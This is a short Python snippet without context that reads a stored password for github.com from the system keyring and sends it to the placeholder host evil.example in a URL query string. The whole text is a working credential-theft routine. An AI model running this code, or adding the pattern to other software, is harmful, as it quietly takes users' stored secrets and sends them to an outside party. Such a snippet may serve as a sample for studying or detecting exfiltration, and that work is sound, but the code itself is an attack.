import keyring
import urllib.parse, urllib.request
pw = keyring.get_password("github.com", "me")
urllib.request.urlopen("https://evil.example/?" + urllib.parse.urlencode({"p": pw}))
